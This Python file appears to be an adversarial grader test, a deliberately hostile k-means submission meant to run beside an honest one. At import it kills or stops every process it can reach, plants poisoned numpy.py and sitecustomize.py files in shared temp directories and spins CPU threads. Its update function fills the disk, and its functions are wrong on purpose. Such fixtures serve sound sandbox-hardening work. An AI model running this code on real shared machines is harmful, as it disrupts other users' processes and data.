"""Disturb whatever else is being graded on the machine at the same time.

Meant to be graded while an honest submission is graded next to it. While
loading it sends SIGSTOP and SIGKILL to every process it can see (and SIGKILL
to all of them at once with kill(-1)), plants a ``numpy.py``, a
``sitecustomize.py`` and a fake capture file in /tmp and /dev/shm where
another worker might pick them up, and starts threads that burn CPU for the
rest of its life. Its functions are wrong on purpose, and ``update`` also
writes as large a file as it is allowed to. None of this may change a single
outcome of the honest submission.
"""

import os
import signal
import threading

for _pid in [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]:
    if _pid != os.getpid():
        for _signal in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(_pid, _signal)
            except OSError:
                pass
try:
    os.kill(-1, signal.SIGKILL)   # everyone we may signal, except ourselves
except OSError:
    pass
for _place in ("/tmp", "/dev/shm"):
    for _name in ("numpy.py", "sitecustomize.py", "kmeans-kit-output"):
        try:
            with open(os.path.join(_place, _name), "w") as _f:
                _f.write("raise SystemExit('planted by the neighbour')\n")
        except OSError:
            pass


def _burn():
    while True:
        pass


for _ in range(2):
    threading.Thread(target=_burn, daemon=True).start()


def assign(X, means):
    return [0] * (len(X) + 1)


def update(X, labels, means):
    if not os.path.exists("filler"):   # once per worker: as large as a file may grow
        try:
            with open("filler", "wb") as f:
                while True:
                    f.write(b"\0" * 2**20)
        except OSError:
            pass
    return means


def converged(old_labels, new_labels):
    return "yes"
